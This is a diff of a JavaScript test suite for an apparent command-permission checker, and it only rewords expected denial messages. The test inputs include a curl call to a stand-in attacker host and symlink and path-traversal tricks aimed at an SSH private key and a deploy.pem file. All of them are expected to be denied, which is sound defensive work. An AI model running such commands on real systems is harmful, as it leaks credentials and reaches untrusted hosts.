@@ -23,7 +23,10 @@ for (const on of API_STORES) {
       const agent = await working(fixture);
       const decision = await agent.ask('curl http://evil.example/x');
       assert.equal(decision.verdict, 'deny');
-      assert.match(decision.because, /^curl http:\/\/evil\.example\/x: it talks to other machines/);
+      assert.match(
+        decision.because,
+        /^curl http:\/\/evil\.example\/x: it connects to other machines/,
+      );
       assert.equal(decision.rule, 'builtin:curl');
     });
 
@@ -116,7 +119,7 @@ for (const on of API_STORES) {
       const links = { 'notes.txt': '/keys/.ssh/id_ed25519' };
       const decision = await agent.ask('cat notes.txt', { links });
       assert.equal(decision.verdict, 'deny');
-      assert.match(decision.because, /id_ed25519 is where keys and passwords are kept/);
+      assert.match(decision.because, /id_ed25519 is a place for keys and passwords/);
       const absolute = { '/cell/docs/notes.txt': '/srv/deploy.pem' };
       assert.equal(
         (await agent.ask('cat docs/../docs/notes.txt', { links: absolute })).verdict,
